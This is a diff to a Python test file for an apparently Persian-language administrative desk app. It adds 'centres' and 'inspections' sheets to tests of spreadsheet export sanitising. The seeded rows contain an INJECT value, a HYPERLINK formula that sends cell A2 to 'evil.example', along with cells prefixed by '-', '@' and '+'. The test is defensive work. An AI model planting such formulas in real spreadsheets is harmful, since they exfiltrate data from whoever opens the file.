@@ -23,11 +23,15 @@ from sqlalchemy import select, update
 from ostandari_desk.errors import UserError
 from ostandari_desk.services import audit_export, files, transfer
 from ostandari_desk.services.audit import AuditFilter
+from ostandari_desk.services.transfer import centres as centre_sheet
+from ostandari_desk.services.transfer import inspections as visit_sheet
 from ostandari_desk.services.transfer.sheet_writer import FORMULA_STARTS, MAX_XLSX_CELL, neutralise
 from ostandari_desk.store.models import Ngo
 
+CENTRE_HEADERS = [c.header for c in centre_sheet.COLUMNS]
+VISIT_HEADERS = [c.header for c in visit_sheet.COLUMNS]
 INJECT = '=HYPERLINK("http://evil.example/?d="&A2,"پیوند")'
-KINDS = ("ngos", "licences", "events", "letters")
+KINDS = ("ngos", "licences", "events", "letters", "centres", "inspections")
 
 
 def write_csv(path: Path, rows) -> Path:
@@ -60,6 +64,25 @@ def seeded(desk, tmp_path):
         "letters": [
             LETTER_HEADERS,
             ["۱۲۳/ص", "1401/6/9", "صادره", "سایر", "+98 دادگستری", INJECT, national_id, ""],
+        ],
+        "centres": [
+            CENTRE_HEADERS,
+            [
+                "KSH-1",
+                "کشتارگاه صنعتی آبیک",
+                "کشتارگاه",
+                "آبیک",
+                "دامپزشکی",
+                "",
+                "-بهره‌بردار",
+                INJECT,
+                "",
+                "",
+            ],
+        ],
+        "inspections": [
+            VISIT_HEADERS,
+            ["KSH-1", "1401/6/9", "10:00", "سرزده", "@بازرس", "مطلوب", "90", INJECT, "", "", ""],
         ],
     }
     for kind, rows in sheets.items():
